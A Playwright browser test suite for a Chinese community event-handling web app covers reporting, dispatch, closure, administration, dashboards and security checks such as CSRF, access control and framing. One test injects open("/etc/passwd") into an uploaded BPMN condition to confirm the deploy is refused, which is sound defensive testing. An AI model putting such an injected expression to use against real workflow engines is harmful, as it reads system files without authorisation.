"""The web app in a real browser (issue #6): Debian's Chromium driven by Playwright, the real app served
by a real HTTP server on 127.0.0.1, a real database. One event from a grid worker's phone through
registration, 核实, 研判, 吹哨, 签收受理, 处置反馈 and 核查 to 办结, each step clicked by its role; another
community's cadre cannot open it; a department clerk sees the reporter's phone masked. A screenshot of
each step is saved under artifacts/browser/ (the test's artifacts; not committed)."""
from __future__ import annotations

import io
import re
import shutil
import threading
from contextlib import contextmanager
from pathlib import Path

import pytest
from PIL import Image
from playwright.sync_api import expect
from werkzeug.serving import make_server

from tests.conftest import PASSWORD
from tests.web.conftest import build_app

ROOT = Path(__file__).resolve().parents[2]
ARTIFACTS = ROOT / "artifacts" / "browser"
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--no-first-run", "--disable-quic"]
PHONE = {"viewport": {"width": 390, "height": 844}, "device_scale_factor": 2, "is_mobile": True, "has_touch": True,
         "locale": "zh-CN"}
DESK = {"viewport": {"width": 1280, "height": 900}, "locale": "zh-CN"}
#: the page fits its viewport (a 390 px phone): nothing wider, no sideways scroll
FITS = "document.documentElement.scrollWidth <= window.innerWidth"


@contextmanager
def served(tmp: Path, template: Path, **settings):
    """The app on a fresh SQLite database under `tmp` (the simulated clock, processes/ deployed, the demo users: a
    copy of the session's seeded template, tests/conftest.py) served over HTTP on a free port: (its base URL, the
    app). `settings`: more of engine/core/config.py's."""
    from engine.core.config import Settings
    from tests.conftest import SIM_START
    shutil.copy(template, tmp / "eventflow.sqlite3")
    config = Settings.from_env(env={}, database_url=f"sqlite:///{tmp}/eventflow.sqlite3", clock="simulated",
                               sim_start=SIM_START, scrypt_n=1024, media_dir=str(tmp / "media"), **settings)
    app = build_app(config)
    http = make_server("127.0.0.1", 0, app, threaded=True)
    threading.Thread(target=http.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{http.server_port}", app
    finally:
        http.shutdown()
        app.extensions["eventflow"].db.dispose()


@pytest.fixture(scope="module")
def server(tmp_path_factory, seeded_sqlite_template):
    with served(tmp_path_factory.mktemp("browser"), seeded_sqlite_template) as found:
        yield found


class Person:
    """One member of staff in their own browser context (phone or desk), signed in."""

    def __init__(self, browser, base, username, device, shots: Path, geolocation=None, password=PASSWORD):
        options = dict(device)
        if geolocation:
            options.update(geolocation=geolocation, permissions=["geolocation"])
        self.context = browser.new_context(base_url=base, **options)
        self.page = self.context.new_page()
        self.username, self.shots = username, shots
        self.page.goto("/login")
        self.page.get_by_label("用户名").fill(username)
        self.page.get_by_label("密码").fill(password)
        self.page.get_by_role("button", name="登录").click()
        expect(self.page.get_by_role("heading", name=re.compile("待办"))).to_be_visible()

    def shot(self, name: str):
        self.shots.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=str(self.shots / f"{name}.png"), full_page=True)

    def open_task(self, number: str, title: str):
        self.page.goto("/")
        task = self.page.locator("li.task", has_text=number).filter(has_text=title)
        expect(task).to_have_count(1)
        task.get_by_role("link").click()
        expect(self.page.get_by_role("heading", name=re.compile(title))).to_be_visible()

    def submit(self):
        self.page.get_by_role("button", name="提交").click()
        expect(self.page.locator("p.flash")).to_contain_text("已提交")

    def close(self):
        self.context.close()


def photo_bytes(colour=(90, 140, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (640, 480), colour).save(buffer, "JPEG")
    return buffer.getvalue()


def test_one_event_from_a_phone_report_to_closure(server, browser):
    base, app = server
    shots = ARTIFACTS / "main_path"
    shutil.rmtree(shots, ignore_errors=True)

    grid = Person(browser, base, "grid1", PHONE, shots, geolocation={"latitude": 27.52, "longitude": 120.60})
    page = grid.page
    page.get_by_role("link", name="上报").click()
    page.get_by_label("事件类型").select_option("A05")
    page.get_by_label("问题描述").fill("新城大道人行道被占道经营，行人无法通行")
    page.get_by_label("事发地址").fill("龙港市新城大道 88 号")
    page.get_by_role("button", name="获取当前位置").click()
    expect(page.get_by_label("纬度")).to_have_value("27.520000")
    page.get_by_label("现场照片").set_input_files([{"name": "scene.jpg", "mimeType": "image/jpeg",
                                                  "buffer": photo_bytes()}])
    page.get_by_label("电话").fill("13800001111")
    grid.shot("01-grid-worker-reports")
    page.get_by_role("button", name="上报", exact=True).click()
    expect(page.locator("p.flash")).to_contain_text("已上报")
    number = re.search(r"LG-\d{8}-\d{4}", page.locator("p.flash").inner_text()).group(0)
    expect(page.get_by_test_id("event-summary").locator("img")).to_have_count(1)
    # the map draws the community boundary and the point with no tiles reachable; the diagram marks 核实
    expect(page.get_by_test_id("map")).to_have_attribute("data-ready", "2")
    expect(page.get_by_test_id("map").locator("path.leaflet-interactive")).to_have_count(2)
    expect(page.get_by_test_id("diagram")).to_have_attribute("data-current", "verify")
    expect(page.locator(".djs-element.current-task")).to_have_count(1)
    grid.shot("02-registered")
    event_url = page.url

    assert page.request.get(f"{event_url}/whistle-order").status == 404     # no 哨单 before 吹哨
    staff = Person(browser, base, "staff1", PHONE, shots)
    expect(staff.page.get_by_test_id("task-count")).to_have_text("1")
    expect(staff.page.locator("li.task", has_text=number)).to_contain_text("龙港市新城大道 88 号")   # where, at a glance
    staff.open_task(number, "核实")
    staff.page.get_by_label("属实，属本社区").check()
    staff.shot("03-verify")
    staff.submit()
    staff.open_task(number, "研判")
    staff.page.get_by_label("吹哨").check()
    staff.shot("04-analyse")
    staff.submit()

    whistle = Person(browser, base, "whistle1", PHONE, shots)
    whistle.open_task(number, "吹哨")
    whistle.page.get_by_label("主办部门").select_option(label="执法局")
    whistle.page.locator("[data-field=on_site]").get_by_label("否").check()
    whistle.page.get_by_label("吹哨理由").fill("社区无执法权，需执法局处置")
    whistle.shot("05-whistle")
    whistle.submit()
    whistle.page.goto(event_url)
    whistle.page.get_by_test_id("whistle-order").click()                  # the printable 哨单 (§7.3)
    expect(whistle.page.get_by_test_id("lead")).to_contain_text("执法")
    expect(whistle.page.locator("table.order").nth(1)).to_contain_text("签收受理")
    whistle.shot("05b-whistle-order")

    clerk = Person(browser, base, "zhifa1", DESK, shots)
    clerk.open_task(number, "签收受理")
    clerk.page.get_by_role("button", name="认领").click()                 # claimed: the clock runs on
    expect(clerk.page.get_by_test_id("claimed-by")).to_contain_text("执法局 办事员（执法局）")   # by name (issue #20)
    expect(clerk.page.get_by_test_id("reporter-contact")).to_contain_text("138****1111")   # masked for a department
    clerk.page.get_by_label("签收受理", exact=True).check()
    clerk.shot("06-accept")
    clerk.submit()
    clerk.open_task(number, "处置反馈")
    clerk.page.get_by_label("处置结果").fill("已清理占道摊点，恢复通行")
    clerk.page.get_by_label("处置前照片").set_input_files([{"name": "before.jpg", "mimeType": "image/jpeg",
                                                          "buffer": photo_bytes((160, 90, 60))}])
    clerk.page.get_by_label("处置后照片").set_input_files([{"name": "after.jpg", "mimeType": "image/jpeg",
                                                          "buffer": photo_bytes((90, 170, 90))}])
    clerk.shot("07-feedback")
    clerk.submit()

    whistle.open_task(number, "结案接收")                                  # §7.3.3 the officer who sent it
    whistle.page.locator("[data-field=passed]").get_by_label("是").check()
    whistle.shot("07b-closure-receipt")
    whistle.submit()

    staff.open_task(number, "核查")
    expect(staff.page.get_by_test_id("reporter-contact")).to_contain_text("13800001111")  # the registering community
    staff.page.locator("[data-field=passed]").get_by_label("是").check()
    staff.page.get_by_label("满意", exact=True).check()
    staff.shot("08-check")
    staff.submit()

    grid.page.goto(event_url)
    expect(grid.page.locator(".pill").first).to_have_text("办结")
    compare = grid.page.get_by_test_id("before-after")                    # §8.5 side by side
    expect(compare.locator("img")).to_have_count(2)
    expect(compare).to_contain_text("处置前")
    grid.page.get_by_label("内容").fill("感谢处理，摊点已清走")
    grid.page.get_by_role("button", name="留言").click()
    expect(grid.page.locator("ol.timeline")).to_contain_text("感谢处理，摊点已清走")
    grid.shot("09-closed")
    grid.page.get_by_role("link", name="消息").click()
    expect(grid.page.locator("ul.messages")).to_contain_text(f"{number} 已办结")

    other = Person(browser, base, "staff2", PHONE, shots)
    response = other.page.goto(event_url)
    assert response.status == 404
    expect(other.page.get_by_role("heading", name="找不到该页面")).to_be_visible()
    other.shot("10-other-community-refused")
    for person in (grid, staff, whistle, clerk, other):
        person.close()


def test_pages_need_a_session_and_forms_need_their_csrf_token(server, browser):
    base, app = server
    context = browser.new_context(base_url=base, **DESK)
    page = context.new_page()
    page.goto("/")
    assert page.url.endswith("/login?next=/")                            # signed out: to the sign-in page
    assert page.request.get(f"{base}/vendor/leaflet.js").status == 200  # the npm libraries, same origin
    assert page.request.get(f"{base}/vendor/package.json").status == 404
    assert page.request.get(f"{base}/events/1/map.json", max_redirects=0).status == 302   # pages need a session
    page.get_by_label("用户名").fill("grid1")
    page.get_by_label("密码").fill("wrong-password")
    page.get_by_role("button", name="登录").click()
    expect(page.get_by_role("alert")).to_have_text("用户名或密码错误")
    response = page.request.post(f"{base}/login", form={"username": "grid1", "password": PASSWORD})
    assert response.status == 400                                         # no CSRF token: refused
    page.get_by_role("button", name="English").click()                    # Chinese first, English available
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    page.get_by_role("button", name="中文").click()
    expect(page.get_by_role("heading", name="登录")).to_be_visible()
    context.close()


def test_an_administrator_suspends_resumes_and_terminates_from_the_event_page(server, browser):
    """挂起 / 恢复 / 终止 (issue #7) clicked by a process administrator; the department clerk sees the task
    marked 已挂起 with its submit button disabled and the time limit standing still, then free again."""
    from tests.web.client import Api
    base, app = server
    shots = ARTIFACTS / "administration"
    shutil.rmtree(shots, ignore_errors=True)
    api = Api(app)
    event = api.report(description="沿街店铺占道堆放杂物")
    api.whistle_to(event["id"])
    number = event["number"]

    owner = Person(browser, base, "owner1", DESK, shots)
    owner.page.goto(f"/events/{event['id']}")
    panel = owner.page.get_by_test_id("administer")
    panel.get_by_label("理由").fill("等待上级协调意见")
    panel.get_by_role("button", name="挂起").click()
    expect(owner.page.locator("p.flash")).to_contain_text("已挂起")
    expect(owner.page.get_by_test_id("suspension")).to_contain_text("等待上级协调意见")
    expect(owner.page.locator("ol.timeline")).to_contain_text("挂起")
    owner.shot("01-suspended")

    clerk = Person(browser, base, "zhifa1", DESK, shots)
    expect(clerk.page.locator("li.task", has_text=number)).to_contain_text("已挂起")
    expect(clerk.page.locator("li.task", has_text=number)).to_contain_text("时限暂停")
    clerk.open_task(number, "签收受理")
    expect(clerk.page.get_by_test_id("suspended")).to_contain_text("等待上级协调意见")
    expect(clerk.page.get_by_role("button", name="提交")).to_be_disabled()
    clerk.shot("02-task-suspended")

    panel = owner.page.get_by_test_id("administer")
    panel.get_by_label("理由").fill("协调意见已到")
    panel.get_by_role("button", name="恢复").click()
    expect(owner.page.locator("p.flash")).to_contain_text("已恢复办理")
    expect(owner.page.get_by_test_id("suspension")).to_have_count(0)
    clerk.open_task(number, "签收受理")
    expect(clerk.page.get_by_role("button", name="提交")).to_be_enabled()

    panel = owner.page.get_by_test_id("administer")
    panel.get_by_label("理由").fill("重复立案，终止办理")
    owner.page.once("dialog", lambda dialog: dialog.accept())        # 终止后不能恢复，确定终止？
    panel.get_by_role("button", name="终止").click()
    expect(owner.page.locator("p.flash")).to_contain_text("已终止")
    expect(owner.page.locator(".pill").first).to_have_text("已终止")
    expect(owner.page.get_by_test_id("event-summary")).to_contain_text("重复立案，终止办理")
    expect(owner.page.get_by_test_id("administer")).to_have_count(0)
    owner.shot("03-terminated")
    clerk.page.goto("/")
    expect(clerk.page.locator("li.task", has_text=number)).to_have_count(0)
    for person in (owner, clerk):
        person.close()


def test_catalogs_are_edited_in_the_app_and_a_bad_value_is_named(server, browser):
    """目录管理 (issue #6): a community cadre sets a type's time limit and whistle list in hours and check
    boxes; a wrong value is named and nothing is saved; a system administrator names a unit's new 分管领导."""
    base, app = server
    shots = ARTIFACTS / "catalogs"
    shutil.rmtree(shots, ignore_errors=True)
    svc = app.extensions["eventflow"]
    before = {"communities": svc.catalogs.get("communities"), "units": svc.catalogs.get("units")}
    cadre = Person(browser, base, "staff1", DESK, shots)
    cadre.page.get_by_role("link", name="管理", exact=True).click()
    cadre.page.get_by_role("link", name="新城社区").click()
    row = cadre.page.locator("tr[data-type=A05]")
    row.get_by_role("textbox").fill("abc")
    cadre.page.get_by_role("button", name="保存").click()
    expect(cadre.page.get_by_test_id("errors")).to_contain_text("「A05 人行道秩序整治」的时限应为大于 0")
    cadre.shot("01-bad-limit-named")
    assert "A05" not in svc.catalogs.community("lg-xincheng")["time_limits"]    # nothing saved
    row = cadre.page.locator("tr[data-type=A05]")
    row.get_by_role("textbox").fill("1.5")
    row.get_by_role("checkbox").uncheck()                                # A05 off the whistle list
    cadre.page.get_by_role("button", name="保存").click()
    expect(cadre.page.locator("p.flash")).to_contain_text("已保存")
    expect(cadre.page.locator("tr[data-type=A05]").get_by_role("textbox")).to_have_value("1.5")
    assert svc.catalogs.community("lg-xincheng")["time_limits"]["A05"] == "PT1H30M"
    assert "A05" not in svc.catalogs.community("lg-xincheng")["whistle_list"]
    cadre.shot("02-saved")
    assert cadre.page.request.get(f"{base}/admin/catalogs/communities/lg-longgang").status == 403   # not theirs
    assert cadre.page.request.get(f"{base}/admin/catalogs/units").status == 403

    admin = Person(browser, base, "admin1", DESK, shots)
    admin.page.goto("/admin/catalogs/units")
    admin.page.locator("tr[data-unit=zhifa]").get_by_label("执法局 分管领导").fill("周海明")
    admin.page.get_by_role("button", name="保存").click()
    expect(admin.page.locator("p.flash")).to_contain_text("已保存")
    assert svc.catalogs.unit("zhifa")["supervisor"]["name"] == "周海明"
    admin.page.goto("/admin/catalogs")
    expect(admin.page.locator("table.grid")).to_contain_text("zhifa")        # 修改记录
    expect(admin.page.locator("table.grid")).to_contain_text("lg-xincheng: time_limits, whistle_list")
    admin.shot("03-history")
    for person in (cadre, admin):
        person.close()
    from engine.accounts import catalog_edits
    from engine.accounts.users import Principal
    root = Principal(0, "test", "test", frozenset({"system_admin"}), None, None)
    for name, document in before.items():      # the module's other tests keep the shipped catalogs
        svc.edit_catalog(lambda s, n=name, d=document: catalog_edits.save(s, n, d, root, svc.clock.now()))


def test_an_administrator_manages_accounts_in_the_app(server, browser):
    """账号管理 (issue #6): a new cadre's account with a forgotten community is refused naming it, then
    created and used at once; disabled, it can no longer sign in; a CSV import shows the initial passwords once."""
    base, app = server
    shots = ARTIFACTS / "accounts"
    shutil.rmtree(shots, ignore_errors=True)
    admin = Person(browser, base, "admin1", DESK, shots)
    page = admin.page
    page.get_by_role("link", name="管理", exact=True).click()
    page.get_by_role("link", name="账号管理").click()
    page.get_by_label("用户名").fill("staff8")
    page.get_by_label("初始密码").fill("init-pass-88")
    page.get_by_label("姓名").fill("新城社区 李娜")
    page.get_by_label("社区干部/社工").check()
    page.get_by_role("button", name="新建").click()
    expect(page.get_by_test_id("errors")).to_contain_text("请选择「社区」")
    expect(page.get_by_label("用户名")).to_have_value("staff8")                  # what was typed is kept
    page.get_by_label("初始密码").fill("init-pass-88")
    page.get_by_label("社区", exact=True).select_option("lg-xincheng")
    page.get_by_role("button", name="新建").click()
    expect(page.locator("p.flash")).to_contain_text("staff8")
    expect(page.locator("tr[data-user=staff8]")).to_contain_text("新城社区")
    admin.shot("01-created")
    cadre = Person(browser, base, "staff8", PHONE, shots, password="init-pass-88")   # signs in at once
    cadre.close()

    page.locator("tr[data-user=staff8]").get_by_role("link").click()
    page.get_by_label("在用（取消勾选即停用，不能再登录）").uncheck()
    page.get_by_role("button", name="保存").click()
    expect(page.locator("tr[data-user=staff8]")).to_contain_text("已停用")
    context = browser.new_context(base_url=base, **PHONE)
    login = context.new_page()
    login.goto("/login")
    login.get_by_label("用户名").fill("staff8")
    login.get_by_label("密码").fill("init-pass-88")
    login.get_by_role("button", name="登录").click()
    expect(login.get_by_role("heading", name=re.compile("待办"))).to_have_count(0)
    context.close()

    csv = "username,display_name,roles,community,unit\ngrid8,网格员 赵强,grid_worker,lg-xincheng,\n"
    page.get_by_label("文件").set_input_files([{"name": "staff.csv", "mimeType": "text/csv",
                                               "buffer": csv.encode("utf-8")}])
    page.get_by_role("button", name="导入").click()
    expect(page.get_by_test_id("imported")).to_contain_text("grid8")
    expect(page.locator("tr[data-user=grid8]")).to_contain_text("网格员 赵强")
    admin.shot("02-imported")
    admin.close()


def test_the_task_list_counts_down_and_filters_by_status(server, browser):
    """待办: the time left runs down on the page by itself (the browser's clock driven by Playwright, not
    waited for), and the status filter shows what the user claimed."""
    from tests.web.client import Api
    base, app = server
    api = Api(app)
    event = api.report(description="楼道堆放杂物")
    api.complete("staff1", event["id"], "verify", {"verdict": "accept"})
    api.complete("staff1", event["id"], "analyse", {"disposal": "cadre"})        # §8.1: 2 hours from now
    other = api.report(description="路灯不亮")
    staff = Person(browser, base, "staff1", PHONE, ARTIFACTS / "tasks")
    page = staff.page
    page.clock.install()
    page.goto("/")
    task = page.locator("li.task", has_text=event["number"])
    expect(task.locator(".remaining")).to_have_text("剩余 2小时0分")
    page.clock.run_for("31:00")                                                 # 31 minutes later
    expect(task.locator(".remaining")).to_have_text("剩余 1小时29分")
    staff.open_task(event["number"], "社区干部处置")
    page.get_by_role("button", name="认领").click()
    page.goto("/?status=mine")
    expect(page.locator("li.task", has_text=event["number"])).to_have_count(1)
    expect(page.locator("li.task", has_text=other["number"])).to_have_count(0)
    page.goto("/?status=unclaimed")
    expect(page.locator("li.task", has_text=event["number"])).to_have_count(0)
    expect(page.locator("li.task", has_text=other["number"])).to_have_count(1)
    staff.close()


def test_the_task_list_pages_with_links_a_thumb_can_hit(server, browser):
    """待办 a page at a time (issue #17): 下一页 and 上一页 on a phone are tap targets of at least 44 × 44 px,
    and they lead to the next page and back."""
    from tests.web.client import Api
    base, app = server
    api = Api(app)
    for _ in range(3):
        api.report(description="分页的待办")
    staff = Person(browser, base, "staff1", PHONE, ARTIFACTS / "pages")
    page = staff.page
    page.goto("/?limit=2")
    first = page.locator("li.task").all_inner_texts()
    following = page.get_by_role("link", name="下一页")
    expect(following).to_be_visible()
    expect(page.get_by_role("link", name="上一页")).to_have_count(0)
    box = following.bounding_box()
    assert box["width"] >= 44 and box["height"] >= 44, box
    following.click()
    page.wait_for_url(re.compile(r"[?&]cursor="))    # and its load: measured before ui.css applies, a box is small
    back = page.get_by_role("link", name="上一页")
    expect(back).to_be_visible()
    box = back.bounding_box()
    assert box["width"] >= 44 and box["height"] >= 44, box
    assert not set(page.locator("li.task").all_inner_texts()) & set(first)
    staff.shot("tasks-page-2")
    back.click()
    expect(page.locator("li.task")).to_have_count(2)
    assert page.locator("li.task").all_inner_texts() == first
    staff.close()


def test_a_process_owner_deploys_rolls_back_and_migrates_with_a_progress_bar(server, browser):
    """流程版本 (issue #7): a refused upload names the element and changes nothing; a good one shows what
    it changed; the running instances move to it in batches with a progress bar; an earlier version is
    activated again (rollback). Runs last: it leaves v2 deployed."""
    from tests.web.client import Api
    from tests.web.test_deploy import BPMN, bundle_zip
    base, app = server
    shots = ARTIFACTS / "processes"
    shutil.rmtree(shots, ignore_errors=True)
    api = Api(app)
    running = [api.report(description=f"迁移演示 {i}") for i in range(3)]
    owner = Person(browser, base, "owner1", DESK, shots)
    page = owner.page
    page.get_by_role("link", name="管理", exact=True).click()
    page.get_by_role("link", name="流程版本：部署、启用、迁移").click()
    hostile = BPMN.replace(b'verdict == "accept"</bpmn:conditionExpression>',
                           b'open("/etc/passwd") != ""</bpmn:conditionExpression>')
    page.get_by_label("文件").set_input_files([{"name": "hostile.zip", "mimeType": "application/zip",
                                               "buffer": bundle_zip(hostile)}])
    page.get_by_role("button", name="部署").click()
    expect(page.get_by_test_id("deploy-error")).to_contain_text("open")
    expect(page.get_by_test_id("deploy-error")).to_contain_text("event_flow.bpmn")
    expect(page.locator("tr[data-version]")).to_have_count(1)                 # nothing changed
    owner.shot("01-refused")
    v2 = BPMN.replace('name="核查"'.encode(), 'name="核查验收"'.encode())
    page.get_by_label("文件").set_input_files([{"name": "v2.zip", "mimeType": "application/zip",
                                               "buffer": bundle_zip(v2)}])
    page.get_by_role("button", name="部署").click()
    expect(page.locator("p.flash")).to_contain_text("v2")
    expect(page.get_by_test_id("changes")).to_contain_text("核查验收")
    plan = page.get_by_test_id("plan")
    for event in running:
        expect(plan.locator(f'tr[data-event="{event["number"]}"]')).to_contain_text("可以")
    owner.shot("02-deployed")
    page.get_by_role("button", name="迁移所选").click()
    expect(page.get_by_test_id("migration-status")).to_contain_text("完成：迁移")
    total = page.locator("input.pick").count()
    expect(page.get_by_test_id("progress")).to_have_attribute("value", str(total))
    owner.shot("03-migrated")
    for event in running:
        assert api.event(event["id"])["process"]["version"] == 2
    page.goto("/admin/processes")
    page.locator("tr[data-version='1']").get_by_role("link").click()
    page.get_by_role("button", name="启用此版本（新事件按此版本办理）").click()
    expect(page.locator("p.flash")).to_contain_text("v1")
    assert api.event(api.report()["id"])["process"]["version"] == 1          # new events on v1 again
    owner.close()


def test_a_process_owner_edits_a_task_name_and_a_timer_in_the_modeler(server, browser):
    """流程建模 (issue #7): bpmn-js's modeler opens the active version; in the properties panel the owner
    renames 核查 and changes the 签收受理 timer; a wrong deadline kind is refused and marked on the diagram;
    the corrected save becomes a new version, listed with what it changed and used by new events."""
    from tests.web.client import Api
    base, app = server
    shots = ARTIFACTS / "modeler"
    shutil.rmtree(shots, ignore_errors=True)
    api = Api(app)
    active = [v for v in api.get("/api/process-versions", "owner1").json["items"] if v["active"]][0]
    owner = Person(browser, base, "owner1", DESK, shots)
    page = owner.page
    page.goto(f"/admin/processes/{active['id']}")
    page.get_by_test_id("open-modeler").click()
    expect(page.get_by_test_id("modeler")).to_have_attribute("data-ready", "1")
    page.locator('.djs-element[data-element-id="check"]').first.click()
    page.locator(".bio-properties-panel-group-header", has_text="常规").click()   # bpmn-js's own fields (General)
    name = page.locator("#bio-properties-panel-name")
    expect(name).to_have_value("核查")
    name.fill("核查（建模器改名）")
    page.locator('.djs-element[data-element-id="timer_accept"]').first.click(force=True)
    timer = page.locator("#bio-properties-panel-ef-timer")
    expect(timer).to_have_value('deadline("accept", "PT30M", dispatch["dispatched_at"])')
    timer.fill('deadline("acceptance", "PT20M", dispatch["dispatched_at"])')
    page.locator("#bio-properties-panel-name").first.click()           # leave the field: the value is taken
    page.get_by_role("button", name="保存并部署为新版本").click()
    expect(page.get_by_test_id("modeler-status")).to_contain_text("timer_accept")
    expect(page.locator('.djs-element.deploy-error[data-element-id="timer_accept"]')).to_have_count(1)
    owner.shot("01-refused-and-marked")
    before = len(api.get("/api/process-versions", "owner1").json["items"])
    timer = page.locator("#bio-properties-panel-ef-timer")
    timer.fill('deadline("accept", "PT20M", dispatch["dispatched_at"])')
    page.locator("#bio-properties-panel-ef-kind").focus()
    page.get_by_role("button", name="保存并部署为新版本").click()
    changes = page.get_by_test_id("changes")
    expect(changes.locator("li", has_text="核查（建模器改名）")).to_contain_text("用户任务")   # its kind in words
    expect(changes.locator("li", has_text="核查（建模器改名）")).to_contain_text("check")
    expect(changes).to_contain_text("timer_accept")
    expect(changes).not_to_contain_text("call_co_parts")                 # bpmn-js's re-serialization is no change
    owner.shot("02-new-version")
    listed = api.get("/api/process-versions", "owner1").json["items"]
    assert len(listed) == before + 1 and [v for v in listed if v["active"]][0]["id"] != active["id"]
    event = api.report(description="建模后新事件")
    api.whistle_to(event["id"])
    accept = [d for d in api.event(event["id"])["deadlines"] if d["kind"] == "accept"][0]
    assert accept["rule"] == "PT20M"                                         # the new version is used
    owner.close()


def test_the_engines_extension_elements_survive_copy_paste_and_a_type_change(server, browser):
    """The spiffworkflow moddle descriptor (web/frontend/src/spiffworkflow.json) lets bpmn-js keep a task's
    form and assignee when it is copied and pasted, and when its type is changed in the modeler."""
    from tests.web.client import Api
    base, app = server
    api = Api(app)
    active = [v for v in api.get("/api/process-versions", "owner1").json["items"] if v["active"]][0]
    owner = Person(browser, base, "owner1", DESK, ARTIFACTS / "modeler")
    page = owner.page
    page.goto(f"/admin/processes/{active['id']}/modeler?file=event_flow.bpmn")
    expect(page.get_by_test_id("modeler")).to_have_attribute("data-ready", "1")
    xml = page.evaluate("""async () => {
        const m = window.eventflowModeler, registry = m.get('elementRegistry');
        const task = registry.get('verify');
        m.get('copyPaste').copy([task]);
        const pasted = m.get('copyPaste').paste({element: task.parent, point: {x: task.x + 60, y: task.y + 300}});
        m.get('bpmnReplace').replaceElement(registry.get('analyse'), {type: 'bpmn:ManualTask'});
        const {xml} = await m.saveXML({format: true});
        return {xml, pasted: pasted.map(e => e.id)};
    }""")
    from lxml import etree
    root = etree.fromstring(xml["xml"].encode("utf-8"))
    ns = {"bpmn": "http://www.omg.org/spec/BPMN/20100524/MODEL", "s": "http://spiffworkflow.org/bpmn/schema/1.0/core"}
    copies = [e for e in root.iterfind(".//bpmn:userTask", ns) if e.get("id") in xml["pasted"]]
    assert copies, xml["pasted"]
    forms = copies[0].xpath(".//s:property[@name='formJsonSchemaFilename']/@value", namespaces=ns)
    assert forms == ["forms/verify.json"]
    [manual] = root.iterfind(".//bpmn:manualTask[@id='analyse']", ns)
    assert manual.xpath(".//s:property[@name='formJsonSchemaFilename']/@value", namespaces=ns) == ["forms/analyse.json"]
    owner.close()


def test_the_assessment_dashboard_draws_its_charts_and_downloads_the_export(server, browser):
    """考核看板 (issue #8): the city authority opens the dashboard; its table shows each indicator with
    numerator and denominator, ECharts draws the comparison, trend and map, and the Excel export downloads
    as a real workbook with the same numbers."""
    import io as _io
    from openpyxl import load_workbook
    from tests.web.client import Api
    base, app = server
    shots = ARTIFACTS / "dashboard"
    shutil.rmtree(shots, ignore_errors=True)
    api = Api(app)
    event = api.report(description="看板样本")
    api.whistle_to(event["id"])
    api.close_whistle(event["id"])                                           # 执法局: accepted, disposed, checked
    city = Person(browser, base, "city1", DESK, shots)
    page = city.page
    page.get_by_role("link", name="考核").click()
    page.get_by_label("自").fill("2026-10-01")
    page.get_by_label("至").fill("2026-10-31")
    page.get_by_role("button", name="查询").click()
    for chart in ("chart-compare", "chart-trend", "chart-map"):
        expect(page.get_by_test_id(chart)).to_have_attribute("data-ready", "1")
        expect(page.get_by_test_id(chart).locator("svg")).to_have_count(1)
    row = page.locator("table[data-testid=indicators] tr[data-key=zhifa]")
    expect(row).to_have_count(1)
    shown = row.locator("td").nth(2).inner_text()                            # 处置率 (after the score): "x% n / d"
    city.shot("01-dashboard")
    with page.expect_download() as download:
        page.get_by_test_id("export-xlsx").click()
    expect(page.get_by_test_id("export-progress")).to_have_attribute("data-done", "1")   # progress shown to the end
    path = download.value.path()
    assert download.value.suggested_filename == "indicators-unit-2026-10-01-2026-10-31.xlsx"
    sheet = load_workbook(_io.BytesIO(Path(path).read_bytes())).active
    header = [c.value for c in sheet[1]]
    zhifa = [[c.value for c in r] for r in sheet.iter_rows(min_row=2) if r[0].value == "zhifa"][0]
    numerator, denominator = zhifa[header.index("处置率·分子")], zhifa[header.index("处置率·分母")]
    assert f"{numerator} / {denominator}" in shown
    with page.expect_download() as download:
        page.get_by_test_id("export-csv").click()
    assert Path(download.value.path()).read_bytes().startswith("\ufeff代码,名称".encode("utf-8"))
    city.close()


def test_patrol_check_in_and_a_hazard_point_from_report_to_verification_on_a_phone(server, browser):
    """§9.2 in the field (issue #8): a grid worker checks in on patrol with the phone's position; a cadre
    reports a key hazard point with a before photo and rectifies it with an after photo; the committee
    verifies it, and the page shows both photos side by side."""
    base, app = server
    shots = ARTIFACTS / "field"
    shutil.rmtree(shots, ignore_errors=True)
    grid = Person(browser, base, "grid1", PHONE, shots, geolocation={"latitude": 27.52, "longitude": 120.60})
    grid.page.get_by_role("link", name="巡查").click()
    grid.page.get_by_label("网格", exact=True).select_option("新城一网格")          # 新城社区's grids (catalog)
    grid.page.get_by_role("button", name="获取当前位置").click()
    expect(grid.page.locator("#position")).to_contain_text("27.52")
    grid.page.get_by_role("button", name="打卡").click()
    expect(grid.page.locator("p.flash")).to_contain_text("新城一网格")
    expect(grid.page.get_by_test_id("my-patrols")).to_contain_text("(27.52000, 120.60000)")
    grid.shot("01-patrol")
    grid.close()

    cadre = Person(browser, base, "staff1", PHONE, shots)
    page = cadre.page
    page.get_by_role("link", name="隐患").click()
    page.get_by_label("名称").fill("新城大道井盖缺失")
    page.get_by_label("隐患情况").fill("人行道井盖缺失，夜间易跌落")
    page.get_by_label("地点").fill("新城大道 66 号")
    page.get_by_label("整治前照片").set_input_files([{"name": "before.jpg", "mimeType": "image/jpeg",
                                                    "buffer": photo_bytes((150, 60, 60))}])
    page.get_by_role("button", name="上报").click()
    expect(page.locator("p.flash")).to_contain_text("已上报")
    page.get_by_label("整改情况").fill("已更换新井盖")
    page.get_by_label("整治后照片").set_input_files([{"name": "after.jpg", "mimeType": "image/jpeg",
                                                   "buffer": photo_bytes((60, 150, 60))}])
    page.get_by_role("button", name="提交整改").click()
    expect(page.get_by_test_id("hazard")).to_contain_text("已整改")
    url = page.url
    cadre.close()

    committee = Person(browser, base, "committee1", PHONE, shots)
    committee.page.goto(url)
    committee.page.get_by_label("验收意见").fill("现场验收合格")
    committee.page.get_by_role("button", name="提交验收").click()
    expect(committee.page.get_by_test_id("hazard")).to_contain_text("已验收")
    expect(committee.page.get_by_test_id("hazard").locator("img")).to_have_count(2)
    committee.shot("02-hazard-verified")
    committee.close()



def test_no_other_site_shows_the_app_in_a_frame(server, browser):
    """Clickjacking (web/headers.py): a page of another site (http://elsewhere.example, answered
    by the test) that frames the app's sign-in page and a signed-in clerk's 待办 gets neither — Chromium refuses
    both frames — while the app's own pages open."""
    base, _app = server
    clerk = Person(browser, base, "staff1", DESK, ARTIFACTS / "framing")
    clerk.page.goto("/")
    expect(clerk.page.locator("header nav")).to_be_visible()               # the app itself, as ever
